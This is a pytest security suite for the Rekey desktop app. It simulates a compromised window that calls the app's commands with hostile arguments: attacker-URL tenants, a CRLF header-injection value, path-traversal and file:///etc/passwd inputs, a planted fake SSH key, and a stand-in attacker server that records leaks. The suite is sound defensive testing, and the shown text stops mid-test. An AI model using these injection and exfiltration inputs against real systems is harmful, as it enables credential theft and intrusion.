"""Trust boundary: a secret goes only where the admin pointed it.

A hostile-window suite. A script in the real window (an XSS or a compromised npm package would be
one) calls every command the capability allows, straight through `__TAURI_INTERNALS__.invoke`, with
hostile arguments:

- tenants that are URLs or contain slashes, on the public cloud (the token URL is built from them);
- custom clouds and metadata lists that point at a stand-in attacker HTTPS server on loopback, which
  the app trusts as it would a host with a public certificate (SSL_CERT_FILE = system CAs + its CA);
- paths to files outside Rekey (a planted fake SSH key) as secret files and CA files;
- pages of an "intranet" host, to see whether errors echo what they say;
- plans the window was never shown, rotations, deletes, reveals, roll-backs and sign-outs without
  the admin's native confirmation;
- an account replaced with one on the attacker's cloud, then an unfinished rotation resumed.

The native dialogs are answered through the app's test hook (REKEY_TEST_DIALOGS, debug builds
only): the admin declines every confirmation and cancels every file dialog, except where a row says
the admin picked their real secret file (the attacker then tries to send it elsewhere).

The attacker records everything it receives; every secret the simulators issued, the admin's secret
files and the planted file's content are searched for in it (plain, URL-encoded, JSON, base64, hex).
The table (attack, what was tried, outcome) goes to target/e2e/hostile-table.txt and to the end of
the pytest output. It must end with 0 secrets or file contents at the attacker, and every attack
refused with a clear message.

The suite runs its own app home and tauri-driver (ports REKEY_E2E_PORT + 10 and + 11), so nothing it
does changes what the other suites see; the leak test searches its folders too.
"""

from __future__ import annotations

import json
import os
import secrets as pyrandom
import shutil
import signal
import socket
import ssl
import subprocess
import tempfile
import time
import urllib.request
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.options import ArgOptions
from selenium.webdriver.support.ui import WebDriverWait

from attacker import Attacker, trust_bundle
from conftest import (
    APP,
    ARTIFACTS,
    ATTACKER_LOG,
    CLI,
    EXTRA_LEAK_ROOTS,
    HOSTILE_TABLE,
    ISSUED_SECRETS,
    PORT,
    ROOT,
    Dialogs,
    dialog_text,
    save_ipc,
    snapshot,
)

SIM = Path(os.environ.get("REKEY_SIM", ROOT / "target" / "debug" / "rekey-sim"))
HOSTILE_PORT = PORT + 10
HOSTILE_NATIVE_PORT = PORT + 11
HOSTILE_APP_LOG = ARTIFACTS / "hostile-app.log"

# What the contract names (see the module docstring and the issue).
NOT_CONFIRMED = {"not_confirmed"}
# The contract names bad_tenant; the core's existing AuthError::InvalidTenant code is accepted as the same refusal.
BAD_TENANT = {"bad_tenant", "invalid_tenant"}
NOT_CHOSEN = {"secret_file_not_chosen"}


# --------------------------------------------------------------------------------------------------
# The table


@dataclass
class Row:
    group: str
    name: str
    tried: str
    outcome: str
    refused: bool
    leaked: list = field(default_factory=list)


ROWS: list[Row] = []


def clip(text, n=110):
    text = " ".join(str(text).split())
    return text if len(text) <= n else text[: n - 1] + "…"


def write_table(attacker: Attacker | None, total_leaks: list) -> str:
    lines = [
        "Hostile window: every command the capability allows, called from the page with hostile arguments.",
        f"App: {APP}",
        f"Attacker: {attacker.base if attacker else '(not started)'}, {attacker.count() if attacker else 0} requests received"
        f" (log: {ATTACKER_LOG})",
        "",
        f"{'#':>3}  {'result':<11} {'attack':<62} {'what was tried':<70} outcome",
        f"{'-' * 3}  {'-' * 11} {'-' * 62} {'-' * 70} {'-' * 60}",
    ]
    for i, r in enumerate(ROWS, 1):
        verdict = "refused" if r.refused and not r.leaked else ("LEAKED" if r.leaked else "NOT REFUSED")
        if verdict == "refused" and "[resumed]" in r.outcome:
            verdict = "contained"
        lines.append(f"{i:>3}  {verdict:<11} {clip(r.group + ': ' + r.name, 62):<62} {clip(r.tried, 70):<70} {clip(r.outcome, 200)}")
    refused = sum(1 for r in ROWS if r.refused and not r.leaked)
    lines += [
        "",
        "Refused = the command answered an error with the code the contract names (if it names one) and a message"
        " that echoes nothing from the attacker's pages or the planted file, and nothing changed. Contained = it ran,"
        " but only against the cloud the admin pointed it at (nothing reached the attacker); counted as refused.",
        f"Secrets or file contents that reached the attacker: {len(total_leaks)}"
        + ("" if not total_leaks else " -> " + "; ".join(f"{label} in {where}" for label, where in total_leaks[:20])),
        f"HOSTILE WINDOW: {len(ROWS)} attacks tried, {refused} refused with a clear message, "
        f"{len(total_leaks)} secrets or file contents reached the attacker (must be 0).",
    ]
    text = "\n".join(lines) + "\n"
    HOSTILE_TABLE.parent.mkdir(parents=True, exist_ok=True)
    HOSTILE_TABLE.write_text(text, encoding="utf-8")
    return text


# --------------------------------------------------------------------------------------------------
# Calling commands as a script in the page would

INVOKE_JS = """
const [cmd, args, channels, timeoutMs] = arguments;
const done = arguments[arguments.length - 1];
const internals = window.__TAURI_INTERNALS__;
if (!internals || !internals.invoke) { done({status: 'error', error: {code: 'no_ipc', message: 'no __TAURI_INTERNALS__'}}); return; }
for (const name of channels) {
  const id = internals.transformCallback(() => {}, false);
  args[name] = '__CHANNEL__:' + id;
}
let settled = false;
const finish = (r) => { if (!settled) { settled = true; done(r); } };
setTimeout(() => finish({status: 'timeout'}), timeoutMs);
try {
  internals.invoke(cmd, args).then(
    (v) => finish({status: 'ok', value: v === undefined ? null : v}),
    (e) => finish({status: 'error', error: e}));
} catch (e) { finish({status: 'error', error: String(e)}); }
"""


@dataclass
class Result:
    status: str  # ok | error | timeout
    code: str | None = None
    message: str = ""
    value: object = None

    def __str__(self):
        if self.status == "ok":
            return f"answered OK: {clip(json.dumps(self.value), 80)}"
        if self.status == "timeout":
            return "no answer in time (a dialog waiting, or a sign-in still running)"
        return f"[{self.code}] {self.message}"


def invoke(driver, cmd: str, args: dict | None = None, channels=(), timeout: float = 20) -> Result:
    driver.set_script_timeout(timeout + 15)
    raw = driver.execute_async_script(INVOKE_JS, cmd, args or {}, list(channels), int(timeout * 1000))
    if raw.get("status") == "error":
        e = raw.get("error")
        if isinstance(e, dict):
            return Result("error", e.get("code"), str(e.get("message") or ""))
        return Result("error", None, str(e))
    return Result(raw.get("status", "error"), value=raw.get("value"))


# --------------------------------------------------------------------------------------------------
# The environment: the attacker, the planted file, the app's own home and tauri-driver


class Simulator:
    """`rekey-sim serve` and its control API (as in test_recovery, with a short Azure operation)."""

    def __init__(self, folder: Path, env: dict):
        self.proc = subprocess.Popen(
            [str(SIM), "serve", "--operation-ms", "1500"],
            env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, start_new_session=True,
        )
        self.ready = json.loads(self.proc.stdout.readline())
        self.base = self.ready["base_url"]
        self.context = ssl.create_default_context(cafile=self.ready["ca_pem"])
        self.folder = folder

    def call(self, method, path, body=None, token=None):
        data = json.dumps(body).encode() if body is not None else None
        request = urllib.request.Request(self.base + path, data=data, method=method)
        request.add_header("Authorization", f"Bearer {token or self.ready['admin_token']}")
        if data is not None:
            request.add_header("Content-Type", "application/json")
        with urllib.request.urlopen(request, context=self.context, timeout=30) as response:
            text = response.read().decode()
            return json.loads(text) if text else None

    def state(self):
        return self.call("GET", "_sim/state")

    def app_keys(self, name):
        app = next(a for a in self.state()["applications"] if a["displayName"] == name)
        return {c["keyId"] for c in app["passwordCredentials"]}

    def admin_secret_file(self) -> Path:
        token = self.call("POST", "_sim/token", {"principal": "rekey-demo-admin", "audience": "graph"})["access_token"]
        added = self.call(
            "POST", f"v1.0/applications(appId='{self.ready['demo_client_id']}')/addPassword",
            {"passwordCredential": {"displayName": "e2e-hostile"}}, token=token,
        )
        path = self.folder / "sp-secret.txt"
        path.write_text(added["secretText"], encoding="utf-8")
        path.chmod(0o600)
        return path

    def stop(self):
        os.killpg(self.proc.pid, signal.SIGTERM)
        self.proc.wait(timeout=10)


class Hostile:
    def __init__(self, app_env: dict):
        self.root = Path(tempfile.mkdtemp(prefix="rekey-e2e-hostile-"))
        self.attacker = Attacker(self.root / "attacker", ATTACKER_LOG)
        home = self.root / "home"
        self.env = dict(app_env)
        self.env.update(
            HOME=str(home),
            XDG_CONFIG_HOME=str(home / ".config"),
            XDG_DATA_HOME=str(home / ".local/share"),
            XDG_CACHE_HOME=str(home / ".cache"),
            REKEY_TEST_DIALOGS=str(home / "dialogs"),
            REKEY_E2E_BROWSER_LOG=str(home / "browser.log"),
            # The attacker is trusted as a host with a public certificate would be.
            SSL_CERT_FILE=str(trust_bundle(self.attacker.ca, self.root / "trust-bundle.pem")),
            # An export never opens a native save dialog here.
            REKEY_EXPORT_DIR=str(self.root / "exports"),
        )
        self.env.pop("REKEY_HOME", None)
        self.data = home / ".local/share" / "rekey"
        self.config = home / ".config" / "rekey"
        EXTRA_LEAK_ROOTS.extend([self.data, self.config, HOSTILE_APP_LOG])
        self.dialogs = Dialogs(home / "dialogs")
        self.dialogs.reset()
        # Files outside Rekey's folders: a fake SSH key (planted), and the admin's own secret file.
        outside = self.root / "outside"
        (outside / ".ssh").mkdir(parents=True)
        self.planted_canary = "PlantedKeyCanary" + pyrandom.token_hex(16)
        self.planted = outside / ".ssh" / "id_ed25519"
        self.planted.write_text(
            "-----BEGIN OPENSSH PRIVATE KEY-----\n"
            f"b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ{self.planted_canary}\n"
            "-----END OPENSSH PRIVATE KEY-----\n",
            encoding="utf-8",
        )
        self.planted.chmod(0o600)
        self.own_secret = "Adm~" + pyrandom.token_urlsafe(27)[:36]
        self.own_secret_file = outside / "admin-sp-secret.txt"
        self.own_secret_file.write_text(self.own_secret + "\n", encoding="utf-8")
        self.own_secret_file.chmod(0o600)
        self.sim: Simulator | None = None
        self.sim_secret: str | None = None
        self.demo = None
        self.driver_proc = None
        self.app_log = None

    # --- secrets searched for at the attacker ---

    def secrets(self) -> dict[str, str]:
        found = {
            "planted file content (fake SSH key)": self.planted_canary,
            "the admin's own secret file (demo phase)": self.own_secret,
        }
        if self.sim_secret:
            found["the signed-in service principal's secret"] = self.sim_secret
        if ISSUED_SECRETS.exists():
            for i, s in enumerate(s for s in ISSUED_SECRETS.read_text(encoding="utf-8").split() if s):
                found.setdefault(f"simulator-issued secret #{i + 1} ({s[:3]}…)", s)
        return found

    # --- the app ---

    def start_driver(self):
        assert APP.exists(), f"build the app first: {APP} is missing"
        driver_bin = shutil.which("tauri-driver") or str(Path.home() / ".cargo/bin/tauri-driver")
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", HOSTILE_PORT)) == 0:
                pytest.fail(f"port {HOSTILE_PORT} is taken: a leftover tauri-driver would serve this run")
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        self.app_log = open(HOSTILE_APP_LOG, "w", encoding="utf-8")  # noqa: SIM115 - closed in stop()
        self.driver_proc = subprocess.Popen(
            [driver_bin, "--port", str(HOSTILE_PORT), "--native-port", str(HOSTILE_NATIVE_PORT),
             "--native-driver", shutil.which("WebKitWebDriver") or "WebKitWebDriver"],
            env=self.env, start_new_session=True, stdout=self.app_log, stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", HOSTILE_PORT)) == 0:
                    return
            time.sleep(0.1)
        raise TimeoutError(f"tauri-driver did not listen on {HOSTILE_PORT}")

    def session(self):
        options = ArgOptions()
        options.set_capability("browserName", "wry")
        options.set_capability("tauri:options", {"application": str(APP)})
        signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(TimeoutError("WebDriver session request hung")))
        for attempt in range(3):
            signal.alarm(90)
            try:
                driver = webdriver.Remote(command_executor=f"http://127.0.0.1:{HOSTILE_PORT}", options=options)
                break
            except Exception:  # noqa: BLE001 - tauri-driver may drop the first request
                if attempt == 2:
                    raise
                time.sleep(2)
            finally:
                signal.alarm(0)
        WebDriverWait(driver, 60).until(
            lambda d: d.execute_script("return !!(window.__TAURI_INTERNALS__ && document.readyState === 'complete')"))
        return driver

    def stop(self):
        if self.sim:
            self.sim.stop()
        if self.driver_proc:
            os.killpg(self.driver_proc.pid, signal.SIGTERM)
            try:
                self.driver_proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(self.driver_proc.pid, signal.SIGKILL)
        if self.app_log:
            self.app_log.close()
        self.attacker.stop()

    # --- one attack ---

    def attack(self, driver, group, name, tried, cmd, args, expect=None, channels=(), timeout=20.0, check=None,
               cancel_sign_in=False) -> Row:
        """Calls `cmd` with `args` from the page and records a row. Refused = an error whose code is in
        `expect` (any code when None) with a clear message, nothing sent to the attacker that carries
        a secret, and `check(result, asked, requests)` (if given) returning (True, note)."""
        mark, asked_mark = self.attacker.count(), len(self.dialogs.asked())
        result = invoke(driver, cmd, args, channels=channels, timeout=timeout)
        if result.status == "timeout" and cancel_sign_in:
            invoke(driver, "cancel_sign_in", {}, timeout=10)
        time.sleep(0.3)  # a request in flight reaches the log
        asked = self.dialogs.asked()[asked_mark:]
        requests = self.attacker.since(mark)
        return self.record(group, name, tried, result, expect, asked, requests, mark, check)

    def record(self, group, name, tried, result, expect, asked, requests, mark, check=None) -> Row:
        leaked = self.attacker.leaks(self.secrets(), mark)
        notes = []
        refused = result.status == "error"
        if not refused:
            notes.append(f"NOT REFUSED: {result}")
        else:
            if expect is not None and result.code not in expect:
                refused = False
                notes.append(f"refused with [{result.code}], the contract says {'/'.join(sorted(expect))}: {clip(result.message, 90)}")
            else:
                notes.append(f"refused [{result.code}] {clip(result.message, 120)}")
            unclear = self.unclear(result.message)
            if unclear:
                refused = False
                notes.append(f"message not clear: {unclear}")
        if check is not None:
            ok, note = check(result, asked, requests)
            if note:
                notes.append(note)
            refused = refused and ok
        creds = [r for r in requests if r["method"] != "GET" or any(k.lower() == "authorization" for k in r["headers"])]
        if creds:
            notes.append(f"attacker received {len(creds)} credential request(s): " + ", ".join(f"{r['method']} {r['path']}" for r in creds[:3]))
            refused = False
        if leaked:
            notes.append("LEAKED to the attacker: " + ", ".join(sorted({label for label, _ in leaked})))
        if asked:
            notes.append("dialogs: " + "; ".join(f"{a.get('kind')} '{clip(a.get('title') or '', 40)}'" for a in asked))
        row = Row(group, name, tried, " | ".join(notes), refused and not leaked, leaked)
        ROWS.append(row)
        return row

    def unclear(self, message: str) -> str | None:
        if len(message.strip()) < 10:
            return "empty or too short"
        if self.attacker.canary in message:
            return "it echoes the attacker's page"
        if self.planted_canary in message or "OPENSSH" in message:
            return "it echoes the planted file"
        if any(s in message for s in self.secrets().values()):
            return "it contains a secret"
        return None


@pytest.fixture(scope="module")
def hostile(app_env):
    h = Hostile(app_env)
    try:
        h.start_driver()
        yield h
    finally:
        all_leaks = h.attacker.leaks(h.secrets(), 0)
        write_table(h.attacker, all_leaks)
        h.stop()
        shutil.rmtree(h.root / "attacker", ignore_errors=True)


def failures(group: str) -> list[str]:
    return [f"{r.name}: {r.outcome}" for r in ROWS if r.group == group and not r.refused]


GUID_TENANT = "72f988bf-86f1-41af-91ab-2d7cd011db47"
GUID_CLIENT = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"


def choose_own_secret_file(h: Hostile, driver) -> Result:
    """The admin picks their real secret file in the native dialog (the window asked for one)."""
    h.dialogs.open_file(h.own_secret_file)
    chosen = invoke(driver, "choose_secret_file", {})
    h.dialogs.open_file(None)
    return chosen


def shows_attacker_host(h: Hostile, required: bool):
    """A check: the native confirmation (if any, or required) names the attacker's host, from Rust's data."""

    def check(result, asked, requests):
        confirms = [a for a in asked if a.get("kind") == "confirm"]
        if not confirms:
            return (not required, "no native confirmation was asked" if required else "")
        shown = any(h.attacker.host in dialog_text(a) or "127.0.0.1" in dialog_text(a) for a in confirms)
        if not shown:
            return False, f"the confirmation did not name the attacker's host: {clip(dialog_text(confirms[-1]), 100)}"
        return True, "the confirmation named the attacker's host"

    return check


# --------------------------------------------------------------------------------------------------
# Phase 1: demo mode (no account), every dialog declined


def close_demo(h: Hostile) -> None:
    driver, h.demo = h.demo, None
    if driver is None:
        return
    try:
        snapshot(driver, "hostile-demo-end")
        save_ipc(driver, "hostile-demo")
    finally:
        driver.quit()


@pytest.fixture(scope="module")
def demo_window(hostile):
    hostile.demo = hostile.session()
    try:
        WebDriverWait(hostile.demo, 90).until(
            lambda d: len(d.find_elements(By.CSS_SELECTOR, '[data-testid="cluster-row"]')) == 12)
        yield hostile.demo
    finally:
        close_demo(hostile)


def test_tenants_that_are_urls_or_paths_are_refused(hostile, demo_window):
    h, d, group = hostile, demo_window, "tenant"
    h.dialogs.confirm("deny")
    choose_own_secret_file(h, d)
    a = h.attacker.host
    hostile_tenants = [
        ("double slash", f"//{a}"),
        ("absolute URL", f"https://{a}/abs"),
        ("backslashes", f"\\\\{a}\\x"),
        ("a path", "contoso.onmicrosoft.com/b"),
        ("dot-dot", ".."),
        ("a query", "contoso.com?x=y"),
        ("percent-encoded slashes", f"%2F%2F{a}"),
        ("user@host", f"evil@{a}"),
        ("CR LF header", "contoso.com\r\nHost: evil"),
    ]
    for label, tenant in hostile_tenants:
        h.attack(d, group, f"SP sign-in, public cloud, tenant = {label}",
                 f"sign_in_service_principal(public, tenant={tenant!r}, secretFile=<planted SSH key>)",
                 "sign_in_service_principal",
                 {"cloud": {"kind": "public"}, "tenant": tenant, "clientId": GUID_CLIENT, "secretFile": str(h.planted)},
                 expect=BAD_TENANT)
    h.attack(d, group, "browser sign-in, tenant = double slash", f"sign_in_browser(public, tenant='//{a}')",
             "sign_in_browser", {"cloud": {"kind": "public"}, "tenant": f"//{a}"},
             expect=BAD_TENANT, timeout=15, cancel_sign_in=True)
    h.attack(d, group, "device-code sign-in, tenant = URL", f"sign_in_device_code(public, tenant='https://{a}/x')",
             "sign_in_device_code", {"cloud": {"kind": "public"}, "tenant": f"https://{a}/x"},
             channels=["onPrompt"], expect=BAD_TENANT, timeout=15, cancel_sign_in=True)
    h.attack(d, group, "Azure CLI sign-in, tenant = double slash", f"sign_in_azure_cli(tenant='//{a}')",
             "sign_in_azure_cli", {"tenant": f"//{a}"}, expect=BAD_TENANT, timeout=20)
    bad = failures(group)
    assert not bad, "\n".join(bad)


def test_custom_clouds_at_the_attacker_need_the_admins_confirmation(hostile, demo_window):
    h, d, group = hostile, demo_window, "custom cloud"
    h.dialogs.confirm("deny")
    choose_own_secret_file(h, d)
    at = h.attacker

    def sp(cloud, secret_file=None):
        return {"cloud": cloud, "tenant": GUID_TENANT, "clientId": GUID_CLIENT,
                "secretFile": str(secret_file or h.own_secret_file)}

    def custom(url, ca=None):
        cloud = {"kind": "custom", "metadataUrl": url}
        if ca is not None:
            cloud["caFile"] = ca
        return cloud

    h.attack(d, group, "SP sign-in, metadata list all at the attacker",
             "sign_in_service_principal(custom attacker metadata [array], the admin's chosen secret file)",
             "sign_in_service_principal", sp(custom(at.metadata_url("full"))),
             expect=NOT_CONFIRMED, check=shows_attacker_host(h, True))
    h.attack(d, group, "SP sign-in, metadata object at the attacker",
             "sign_in_service_principal(custom attacker metadata [single object], secretFile=<planted>)",
             "sign_in_service_principal", sp(custom(at.metadata_url("full", array=False)), h.planted),
             expect=NOT_CONFIRMED, check=shows_attacker_host(h, True))
    h.attack(d, group, "SP sign-in, Microsoft's ARM/Graph, attacker's login",
             "metadata: resourceManager=management.azure.com, graph=graph.microsoft.com, login=attacker",
             "sign_in_service_principal", sp(custom(at.metadata_url("login-only"))),
             check=shows_attacker_host(h, False))
    h.attack(d, group, "SP sign-in, metadata list: foreign entry first",
             "metadata list [Microsoft ARM + attacker login, attacker entry]: which entry is used?",
             "sign_in_service_principal", sp(custom(at.metadata_url("array-second"))),
             check=shows_attacker_host(h, False))
    h.attack(d, group, "SP sign-in, metadata list with no entry for its host",
             "metadata list whose only entry is another host's ARM with the attacker's login",
             "sign_in_service_principal", sp(custom(at.metadata_url("no-match"))),
             check=shows_attacker_host(h, False))
    h.attack(d, group, "SP sign-in, login endpoint over plain http",
             "metadata with loginEndpoint http://attacker",
             "sign_in_service_principal", sp(custom(at.metadata_url("http-login"))))
    h.attack(d, group, "CA file named by the window (planted file)",
             "cloud.caFile = <planted SSH key> (the window may not name a CA file)",
             "sign_in_service_principal", sp(custom(at.metadata_url("full"), str(h.planted))),
             check=shows_attacker_host(h, False))

    # A file-existence oracle through caFile: the answers for an existing and a missing file must not differ.
    mark, asked_mark = at.count(), len(h.dialogs.asked())
    answers = []
    for path in (str(h.planted), str(h.planted.parent / "no-such-key")):
        r = invoke(d, "sign_in_service_principal", sp(custom(at.metadata_url("full"), path)))
        answers.append(r)
    same = all(r.status == "error" for r in answers) and len(
        {(r.code, r.message.replace(str(h.planted.parent), "<dir>").replace("no-such-key", "id_ed25519")) for r in answers}) == 1

    def oracle(result, asked, requests):
        return same, ("existing and missing CA files answer alike" if same else
                      f"answers differ: {clip(answers[0], 60)} vs {clip(answers[1], 60)}")

    h.record(group, "CA-file existence oracle", "caFile = an existing file, then a missing one: do the answers differ?",
             answers[0], None, h.dialogs.asked()[asked_mark:], at.since(mark), mark, oracle)

    no_echo = lambda result, asked, requests: (at.canary not in result.message, "")  # noqa: E731
    h.attack(d, group, "metadata URL = intranet 404 page",
             "custom metadataUrl = https://attacker/intranet/payroll (404 HTML with a canary)",
             "sign_in_service_principal", sp(custom(at.url("intranet/payroll"))), check=no_echo)
    h.attack(d, group, "metadata URL = intranet 200 HTML page",
             "custom metadataUrl = https://attacker/html200/wiki (200 HTML, not JSON, with a canary)",
             "sign_in_service_principal", sp(custom(at.url("html200/wiki"))), check=no_echo)
    h.attack(d, group, "metadata URL over plain http", "custom metadataUrl = http://attacker/…",
             "sign_in_service_principal", sp(custom(at.metadata_url("full").replace("https://", "http://"))))
    h.attack(d, group, "metadata URL = file:// URL", "custom metadataUrl = file:///etc/passwd",
             "sign_in_service_principal", sp(custom("file:///etc/passwd")))
    h.attack(d, group, "browser sign-in on the attacker's cloud", "sign_in_browser(custom attacker metadata)",
             "sign_in_browser", {"cloud": custom(at.metadata_url("full")), "tenant": GUID_TENANT},
             expect=NOT_CONFIRMED, timeout=15, cancel_sign_in=True, check=shows_attacker_host(h, True))
    h.attack(d, group, "device-code sign-in on the attacker's cloud", "sign_in_device_code(custom attacker metadata)",
             "sign_in_device_code", {"cloud": custom(at.metadata_url("full")), "tenant": GUID_TENANT},
             channels=["onPrompt"], expect=NOT_CONFIRMED, timeout=15, cancel_sign_in=True,
             check=shows_attacker_host(h, True))
    bad = failures(group)
    assert not bad, "\n".join(bad)


def test_settings_exports_and_unknown_accounts(hostile, demo_window):
    h, d, group = hostile, demo_window, "other commands"
    h.dialogs.confirm("deny")
    before = invoke(d, "get_settings", {})
    assert before.status == "ok", before
    hostile_settings = dict(before.value)
    hostile_settings["cloud"] = {"kind": "custom", "metadataUrl": h.attacker.metadata_url("full"), "caFile": str(h.planted)}
    mark, asked_mark = h.attacker.count(), len(h.dialogs.asked())
    saved = invoke(d, "save_settings", {"settings": hostile_settings})
    after = invoke(d, "get_settings", {})
    kept_ca = json.dumps(after.value).find(str(h.planted)) >= 0

    def no_ca(result, asked, requests):
        return not kept_ca, ("the window's CA file was saved in the settings" if kept_ca else "no CA file from the window was kept")

    # Saving a default cloud is the admin's choice in Settings; a CA file named by the window is not.
    h.record(group, "settings: default cloud with a CA file", "save_settings(cloud = attacker metadata + caFile = <planted>)",
             saved if saved.status == "error" else Result("error", "saved_without_ca", "saved; the CA file was dropped")
             if not kept_ca else saved, None, h.dialogs.asked()[asked_mark:], h.attacker.since(mark), mark, no_ca)
    invoke(d, "save_settings", {"settings": before.value})
    h.attack(d, group, "export with a path as format", "export_inventory(format='../../../tmp/x')",
             "export_inventory", {"format": "../../../tmp/x"}, expect={"bad_format", "nothing_to_export"})
    h.attack(d, group, "sign in again as an invented account", "sign_in_again(accountId='sp:x@//attacker')",
             "sign_in_again", {"accountId": f"sp:{GUID_CLIENT}@//{h.attacker.host}"}, timeout=15, cancel_sign_in=True)
    updates(h, d, group)
    h.attack(d, group, "benchmark mark with a number out of range", "dashboard_painted(rows=-1)",
             "dashboard_painted", {"rows": -1, "cached": False})
    h.attack(d, group, "benchmark mark with a text as flag", "dashboard_painted(cached='/etc/passwd')",
             "dashboard_painted", {"rows": 1, "cached": "/etc/passwd"})
    bad = failures(group)
    assert not bad, "\n".join(bad)


def updates(h, d, group) -> None:
    """The updater: the feed, its key and the install are Rust's. The window cannot reach the
    plugin's own commands, and a check it asks for ignores any feed it names."""
    h.attack(d, group, "updater plugin: check the attacker's feed", "plugin:updater|check(endpoints=[attacker])",
             "plugin:updater|check", {"headers": {}, "timeout": 5, "target": h.attacker.url("/feed.json")})
    h.attack(d, group, "updater plugin: download and install", "plugin:updater|download_and_install(rid=1)",
             "plugin:updater|download_and_install", {"rid": 1}, channels=["onEvent"])
    mark, asked_mark = h.attacker.count(), len(h.dialogs.asked())
    checked = invoke(d, "check_for_updates", {"endpoint": h.attacker.url("/feed.json"), "pubkey": "attacker"}, timeout=30)
    requests = h.attacker.since(mark)

    def own_feed(result, asked, requests):
        # Answered from the feed built into Rekey (none in this build): nothing went to the attacker.
        ok = result.status == "ok" and not requests and not asked
        return ok, f"answered from Rekey's own feed: {clip(json.dumps(result.value), 90)}" if ok else str(result)

    # A check is the window's to ask for; a feed is not its to name. An answer that ignored the
    # named feed counts as the refusal.
    shown = Result("error", "feed_ignored", "the check used the feed built into Rekey; the named one was ignored") \
        if checked.status == "ok" else checked
    h.record(group, "check for updates on the attacker's feed", "check_for_updates(endpoint=attacker, pubkey=attacker)",
             shown, None, h.dialogs.asked()[asked_mark:], requests, mark,
             lambda result, asked, reqs: own_feed(checked, asked, reqs))


def clusters(driver) -> list[dict]:
    """The clusters the window knows (the last inventory)."""
    inventory = invoke(driver, "cached_inventory", {}).value or {}
    rows = inventory.get("clusters") or []
    if not rows:
        inventory = invoke(driver, "refresh_inventory", {}, channels=["onProgress"], timeout=60).value or {}
        rows = inventory.get("clusters") or []
    return rows


def cluster_id(driver, name):
    rows = clusters(driver)
    found = [r["id"] for r in rows if r.get("name") == name]
    assert found, f"{name} is not in the window's inventory ({len(rows)} clusters)"
    return found[0]


def journal_count(folder: Path) -> int:
    return len(list((folder / "rotations").glob("*.jsonl"))) if (folder / "rotations").exists() else 0


def test_rotations_vault_and_roll_back_need_the_native_confirmation(hostile, demo_window):
    h, d, group = hostile, demo_window, "rotation/vault"
    demo = h.data / "demo"
    # The admin rotates one cluster and confirms: this gives the vault a secret to attack.
    h.dialogs.confirm("accept")
    stg = cluster_id(d, "aks-stg-weu")
    plan = invoke(d, "plan_rotation", {"clusterIds": [stg], "mode": "secret", "lifetimeDays": None, "retire": None})
    assert plan.status == "ok", plan
    asked_mark = len(h.dialogs.asked())
    started = invoke(d, "start_rotation", {"planId": plan.value["planId"], "confirmedNames": [], "rolesToCopy": None},
                     channels=["onProgress"], timeout=120)
    assert started.status == "ok", f"the admin's confirmed rotation did not run: {started}"
    confirms = [a for a in h.dialogs.asked()[asked_mark:] if a.get("kind") == "confirm"]
    # Checked after the attacks (they are worth running either way).
    setup_problems = [] if confirms and "aks-stg-weu" in dialog_text(confirms[-1]) else [
        f"the rotation's native confirmation must name its clusters (from Rust's plan); recorded: {confirms}"]
    vault = invoke(d, "vault_list", {}).value or []
    assert vault, "the confirmed rotation left nothing in the vault"
    key_id = vault[0]["keyId"]
    rotation_id = started.value[0]["rotationId"]

    h.dialogs.confirm("deny")

    def nothing_ran():
        """A check: no rotation journal appeared during the attack (the baseline is taken now)."""
        before = journal_count(demo)

        def check(result, asked, requests):
            n = journal_count(demo)
            return n == before, ("no rotation ran" if n == before else f"{n - before} rotation(s) ran")

        return check

    h.attack(d, group, "start a plan the window was never shown", "start_rotation(planId=<invented>)",
             "start_rotation", {"planId": str(uuid.uuid4()), "confirmedNames": [], "rolesToCopy": None},
             channels=["onProgress"], expect={"unknown_plan"}, check=nothing_ran())
    prod = cluster_id(d, "aks-prod-weu")
    p = invoke(d, "plan_rotation", {"clusterIds": [prod], "mode": "secret", "lifetimeDays": 1, "retire": {"kind": "now"}})
    names = [c["name"] for g in p.value["plan"]["groups"] for c in g["clusters"]] if p.status == "ok" else []
    h.attack(d, group, "rotate production, retire now, no native confirmation",
             f"plan_rotation(aks-prod-weu, 1 day, retire now) then start_rotation(confirmedNames={names})",
             "start_rotation", {"planId": (p.value or {}).get("planId", "x"), "confirmedNames": names, "rolesToCopy": None},
             channels=["onProgress"], expect=NOT_CONFIRMED, timeout=60, check=nothing_ran())
    all_ids = [r["id"] for r in clusters(d)]
    p = invoke(d, "plan_rotation", {"clusterIds": all_ids, "mode": "newSp", "lifetimeDays": None, "retire": {"kind": "now"}})
    names = [c["name"] for g in (p.value or {}).get("plan", {}).get("groups", []) for c in g["clusters"]]
    h.attack(d, group, "new principals for every cluster, no confirmation",
             f"plan_rotation(all {len(all_ids)} clusters, newSp, retire now) then start_rotation",
             "start_rotation", {"planId": (p.value or {}).get("planId", "x"), "confirmedNames": names, "rolesToCopy": None},
             channels=["onProgress"], expect=NOT_CONFIRMED, timeout=60, check=nothing_ran())
    p = invoke(d, "plan_rotation", {"clusterIds": [stg], "mode": "newSp", "lifetimeDays": None, "retire": None})
    h.attack(d, group, "new principal with invented roles to copy",
             "start_rotation(newSp plan, rolesToCopy=['/subscriptions/x/…/roleAssignments/evil'])",
             "start_rotation", {"planId": (p.value or {}).get("planId", "x"), "confirmedNames": [],
                                "rolesToCopy": ["/subscriptions/00000000-0000-0000-0000-000000000000/providers/Microsoft.Authorization/roleAssignments/evil"]},
             channels=["onProgress"], expect=NOT_CONFIRMED, timeout=60, check=nothing_ran())
    h.attack(d, group, "plan a secret that lives 100 years", "plan_rotation(lifetimeDays=36500)",
             "plan_rotation", {"clusterIds": [stg], "mode": "secret", "lifetimeDays": 36500, "retire": None},
             expect={"bad_lifetime"})
    p = invoke(d, "plan_rotation", {"clusterIds": ["/subscriptions/../../../etc/passwd", "../x"], "mode": "secret",
                                    "lifetimeDays": None, "retire": None})
